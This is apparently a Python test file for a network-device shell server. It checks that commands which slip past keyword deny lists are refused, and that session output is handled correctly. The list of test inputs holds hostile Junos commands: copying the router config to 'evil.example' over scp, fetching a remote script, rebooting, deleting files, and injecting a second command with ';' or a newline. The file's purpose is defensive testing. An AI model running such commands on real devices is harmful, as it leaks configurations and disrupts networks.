"""Faults of others: commands that a list of bad words lets pass, and outputs of somebody else."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

import pytest
from fastmcp import Client

from fake_mist.stream.wrapping import data
from mist_mcp.shell.messages import SessionOutput
from mist_mcp.shell.session import open_session
from mist_mcp.shell.signs import utility
from tests.asking import Asker
from tests.conftest import server_on
from tests.regressions.watching import watched, writes_on
from tests.shell.strangers import IMPATIENT, PROMPT, saying, stranger

if TYPE_CHECKING:
    from pathlib import Path

SHELL: Final = "execute_custom_shell_command"
PASSED: Final = (
    "request system reboot",
    "req sys reb",
    "request  system   reboot",
    "re sys zero",
    "start shell",
    'start shell command "reboot"',
    "sta sh",
    "show version | save /var/tmp/x",
    "show configuration | sa x",
    "show version | append x",
    "show version | tee x",
    "show version | no-more | save x",
    "file delete /var/tmp/x",
    "fil del /var/tmp/x",
    "file copy /config/juniper.conf scp://evil.example/",
    "edit",
    "conf ex",
    "clear bgp neighbor",
    "restart routing",
    "op url http://evil.example/x.slax",
    "ssh evil.example",
    "show version; request system reboot",
    "show version\nrequest system reboot",
    "show version \x1b[A",
    "Request System Reboot",
)
"""What lists of forbidden words, or of allowed first words, let pass."""


async def yes(*_: Any) -> dict[str, Any]:
    """Approve whatever is asked."""
    return {"approve": True}


@pytest.mark.parametrize("writes", [False, True])
async def test_what_is_not_known_to_read_is_not_typed(*, writes: bool, tmp_path: Path) -> None:
    """Fault: abbreviations, pipes, quotes and second lines pass a list of forbidden words.

    No device is asked for a shell: not for them alone, nor, where writes are on and a person
    approves everything, for them behind a harmless command.
    """
    cloud, watch = watched()
    server = server_on(cloud, **(writes_on(tmp_path) if writes else {}))
    async with Client(server, elicitation_handler=yes) as connected:
        client = Asker(connected)
        for command in PASSED:
            commands = ["show version", command] if writes else [command]
            await client.refusal(SHELL, device_id="harbour-gw", commands=commands)
    assert watch.done == []


@pytest.mark.parametrize("session", [None, "", "other", 0, False])
def test_no_id_is_not_the_same_as_no_id(session: Any) -> None:
    """Fault: `None == None`, so the output of somebody else's session is taken for ours."""
    for own in ("", "mine"):
        collected = SessionOutput(own, utility("ping"), 1000)
        for body in ({"session": session, "raw": "theirs"}, {"raw": "theirs"}):
            assert collected.feed(data("/cmd", body)) is False
        assert collected.text.text == ""


@pytest.mark.usefixtures("jumping")
@pytest.mark.parametrize("said", ["", "one\ntwo\n"])
async def test_what_came_before_the_silence_is_kept_and_is_no_success(said: str) -> None:
    """Fault: a timeout loses what was collected, and an empty output is reported as a success."""
    page = b"show x | no-more \r\n" + said.replace("\n", "\r\n").encode()
    async with (
        stranger(saying(PROMPT, page)) as origin,
        open_session(origin, origin=origin, bounds=IMPATIENT) as session,
    ):
        output = await session.run("show x")
    assert output.text == said
    assert not output.completed
    assert output.reason
